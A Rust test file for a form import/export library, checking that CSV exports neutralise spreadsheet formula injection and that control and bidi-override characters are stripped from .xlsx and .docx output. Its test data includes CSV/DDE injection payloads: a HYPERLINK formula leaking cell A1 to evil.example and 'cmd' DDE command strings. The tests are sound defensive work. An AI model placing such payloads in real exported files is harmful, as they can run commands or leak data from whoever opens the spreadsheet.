//! Text that would break an export or the program that opens it: formula-looking CSV
//! cells, XML-invalid control characters and bidi overrides.

use std::path::Path;

use jixiao_domain::model::Form;
use jixiao_domain::Profile;
use jixiao_files::export::{export, open_data, ExportFormat};
use jixiao_files::import::{import_bytes, ImportedFile, Status};
use jixiao_files::limits::Limits;

fn seed_text() -> String {
    std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("../../examples/seed-2023-shifeng-tongzhanbu.txt"),
    )
    .unwrap()
}

fn profile() -> Profile {
    Profile::builtin("hunan-zhuzhou").unwrap()
}

fn import(name: &str, bytes: &[u8]) -> ImportedFile {
    import_bytes(name, bytes, &profile(), &Limits::default())
}

/// The fields of a CSV (RFC 4180, CRLF rows), without the BOM.
fn parse_csv(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = std::str::from_utf8(bytes)
        .unwrap()
        .trim_start_matches('\u{feff}');
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') if field.is_empty() => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\r') if chars.peek() == Some(&'\n') => {
                chars.next();
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => field.push(c),
        }
    }
    rows
}

/// A cell a spreadsheet would run as a formula (or a DDE command).
fn formula_like(s: &str) -> bool {
    s.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// Excel reads these as numbers, never as formulas: sign, digits, decimals, percent.
fn plain_number(s: &str) -> bool {
    let body = s.strip_prefix(['-', '+']).unwrap_or(s);
    let body = body.strip_suffix('%').unwrap_or(body);
    let (int, frac) = body.split_once('.').unwrap_or((body, "0"));
    !int.is_empty()
        && !frac.is_empty()
        && int.bytes().all(|b| b.is_ascii_digit())
        && frac.bytes().all(|b| b.is_ascii_digit())
}

#[test]
fn csv_cells_never_start_a_formula_but_numbers_stay_numbers() {
    let f = import("seed.txt", seed_text().as_bytes());
    assert_eq!(f.status, Status::Ok);
    let mut forms = f.forms;
    let attacks = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")",
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];
    let numbers = ["-5", "-3.5%", "12.5", "+7", "0"];
    let Form::Project(p) = forms
        .iter_mut()
        .find(|f| matches!(f, Form::Project(_)))
        .unwrap()
    else {
        unreachable!()
    };
    p.name = "=1+1".into();
    for (i, a) in attacks.iter().enumerate() {
        p.indicators[i].name = (*a).to_string();
        p.indicators[i].standard = (*a).to_string();
    }
    for (i, n) in numbers.iter().enumerate() {
        p.indicators[i].value = jixiao_domain::IndicatorValue::parse(n);
        p.indicators[i].value.text = (*n).to_string();
    }
    let csv = export(&forms, ExportFormat::Csv).unwrap();
    assert_eq!(csv, open_data::csv(&forms));
    let rows = parse_csv(&csv);
    assert_eq!(rows[0], open_data::CSV_HEADER);
    let cells: Vec<&String> = rows.iter().flatten().collect();
    for c in &cells {
        assert!(!formula_like(c) || plain_number(c), "a live formula: {c:?}");
    }
    for a in attacks {
        let neutral = format!("'{a}");
        assert!(
            cells.iter().any(|c| **c == neutral),
            "{a:?} kept, after a '"
        );
    }
    for n in numbers {
        assert!(cells.iter().any(|c| *c == n), "{n} stays a number");
    }
    assert!(cells.iter().any(|c| *c == "'=1+1"), "the project name too");
}

/// Characters no XML document may hold, and bidi overrides that make text read
/// differently from what it says.
const HOSTILE: [char; 8] = [
    '\u{1}', '\u{b}', '\u{1f}', '\u{fffe}', '\u{202e}', '\u{202a}', '\u{2066}', '\u{2069}',
];

fn hostile(s: &str) -> bool {
    s.chars().any(|c| HOSTILE.contains(&c))
}

/// The model's texts as JSON, to look for hostile characters anywhere.
fn model_text(forms: &[Form]) -> String {
    serde_json::to_string(forms).unwrap()
}

/// XML 1.0 `Char`: what a well-formed document may contain, also as `&#…;`.
fn xml_char(c: char) -> bool {
    matches!(c, '\t' | '\n' | '\r' | '\u{20}'..='\u{d7ff}' | '\u{e000}'..='\u{fffd}' | '\u{10000}'..)
}

/// Every XML part of an Office file holds only XML characters, literally or as
/// character references (our readers are lenient; Word, Excel and LibreOffice are not).
fn strictly_valid_xml(name: &str, bytes: &[u8]) {
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    for i in 0..zip.len() {
        let mut part = zip.by_index(i).unwrap();
        let part_name = part.name().unwrap().to_string();
        if !part_name.ends_with(".xml") && !part_name.ends_with(".rels") {
            continue;
        }
        let mut text = String::new();
        std::io::Read::read_to_string(&mut part, &mut text).unwrap();
        if let Some(c) = text.chars().find(|c| !xml_char(*c)) {
            panic!(
                "{name}/{part_name}: U+{:04X} is not an XML character",
                c as u32
            );
        }
        for reference in text.split("&#").skip(1) {
            let Some((num, _)) = reference.split_once(';') else {
                continue;
            };
            let code = match num.strip_prefix('x') {
                Some(hex) => u32::from_str_radix(hex, 16),
                None => num.parse(),
            }
            .unwrap();
            let ok = char::from_u32(code).is_some_and(xml_char);
            assert!(ok, "{name}/{part_name}: &#{num}; is not an XML character");
        }
        // Excel's own escape for a control character in a string.
        assert!(
            !text.contains("_x000") && !text.contains("_x001"),
            "{name}/{part_name}: an escaped control character"
        );
    }
}

/// Exports `forms` as .xlsx and .docx, checks their XML strictly and reads both back with
/// the readers.
fn exports_read_back(forms: &[Form]) -> Vec<ImportedFile> {
    [
        (ExportFormat::Xlsx, "x.xlsx"),
        (ExportFormat::Docx, "x.docx"),
    ]
    .into_iter()
    .map(|(fmt, name)| {
        let bytes = export(forms, fmt).unwrap_or_else(|e| panic!("{name}: {e}"));
        strictly_valid_xml(name, &bytes);
        let back = import(name, &bytes);
        assert_eq!(
            back.status,
            Status::Ok,
            "{name} reads back: {:?}",
            back.error
        );
        back
    })
    .collect()
}

#[test]
fn control_characters_and_bidi_overrides_are_removed_on_import() {
    let text = seed_text()
        .replacen("搭建交流平台", "搭建\u{1}交流\u{202e}平台\u{fffe}", 1)
        .replacen("统一战线工作部", "统一战线\u{2066}工作部\u{2069}", 1)
        .replacen("计划标准", "计划\u{b}标准\u{1f}", 1);
    let f = import("hostile.txt", text.as_bytes());
    assert_eq!(f.status, Status::Ok, "{:?}", f.error);
    assert!(!hostile(&model_text(&f.forms)), "cleaned on import");
    let names: Vec<&str> = f
        .forms
        .iter()
        .flat_map(|f| f.indicators())
        .map(|i| i.name.as_str())
        .collect();
    assert!(names.contains(&"搭建交流平台"), "{names:?}");
    let warnings: Vec<&str> = f
        .findings
        .iter()
        .filter(|x| x.rule == "parse-warning" && x.message.contains("U+"))
        .map(|x| x.message.as_str())
        .collect();
    let all = warnings.join("\n");
    for code in ["U+0001", "U+202E", "U+FFFE", "U+2066", "U+000B"] {
        assert!(all.contains(code), "{code} named in:\n{all}");
    }
    assert!(
        f.findings
            .iter()
            .filter(|x| x.message.contains("U+0001"))
            .all(|x| x.location.cell.is_some()),
        "each warning says where"
    );
    for back in exports_read_back(&f.forms) {
        let names: Vec<String> = back
            .forms
            .iter()
            .flat_map(|f| {
                f.indicators()
                    .iter()
                    .map(|i| i.name.clone())
                    .collect::<Vec<_>>()
            })
            .collect();
        assert!(names.iter().any(|n| n == "搭建交流平台"), "{names:?}");
    }
}

/// Forms that reach a writer without the importer (stored earlier, sent through the API)
/// still make valid .xlsx and .docx files.
#[test]
fn the_writers_clean_what_they_are_given() {
    let mut forms = import("seed.txt", seed_text().as_bytes()).forms;
    let Form::Project(p) = forms
        .iter_mut()
        .find(|f| matches!(f, Form::Project(_)))
        .unwrap()
    else {
        unreachable!()
    };
    p.indicators[1].name = "项目\u{1}名称\u{202e}".into();
    // A vertical tab is Word's line break: it becomes one.
    p.indicators[0].name = "指标\u{fffe}\u{b}名称".into();
    p.annual_goal = "目标\u{0}\u{1b}完成".into();
    for back in exports_read_back(&forms) {
        let text = model_text(&back.forms);
        assert!(
            !hostile(&text) && !text.contains('\u{0}'),
            "hostile text read back"
        );
        let names: Vec<&str> = back
            .forms
            .iter()
            .flat_map(|f| f.indicators())
            .map(|i| i.name.as_str())
            .collect();
        assert!(names.contains(&"项目名称"), "{names:?}");
        assert!(names.contains(&"指标\n名称"), "{names:?}");
        assert!(text.contains("目标完成"));
    }
}
